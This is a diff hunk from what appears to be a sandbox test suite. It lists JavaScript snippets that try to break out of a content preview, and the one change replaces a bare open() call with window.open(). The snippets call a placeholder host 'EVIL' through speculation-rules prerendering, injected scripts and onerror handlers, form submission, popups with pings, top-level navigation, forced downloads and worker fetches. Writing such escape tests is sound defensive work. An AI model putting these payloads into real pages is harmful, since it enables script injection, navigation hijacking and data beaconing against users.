@@ -47,7 +47,7 @@ export const previewAttempts: Readonly<Record<string, string>> = {
   'speculation-rules': `add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['EVIL/speculated'] }], prefetch: [{ source: 'list', urls: ['EVIL/prefetched'] }] })`,
   scripts: `add('script', { src: 'EVIL/script' }); add('script', {}).textContent = 'console.log("ESCAPED inline")'; add('div', {}).innerHTML = '<img src=x onerror="console.log(\\'ESCAPED handler\\')">'`,
   forms: `const form = add('form', { action: 'EVIL/form', method: 'post', target: '_top' }); form.submit(); form.requestSubmit()`,
-  popups: `for (const target of ['_blank', '_top', '_parent']) { open?.('EVIL/open', target); const a = add('a', { href: 'EVIL/link', target, ping: 'EVIL/ping', rel: 'opener' }); a.click() }`,
+  popups: `for (const target of ['_blank', '_top', '_parent']) { window.open?.('EVIL/open', target); const a = add('a', { href: 'EVIL/link', target, ping: 'EVIL/ping', rel: 'opener' }); a.click() }`,
   'top-navigation': `top.location.href = 'EVIL/top'; top.location.replace('EVIL/top')`,
   download: `add('a', { href: 'EVIL/download', download: 'x' }).click()`,
   workers: `const u = URL.createObjectURL(new Blob(['fetch("EVIL/worker")'])); for (const W of ['Worker', 'SharedWorker']) { const frame = add('iframe', {}); try { new frame.contentWindow[W](u) } catch {} } new Worker(u); found('worker')`,
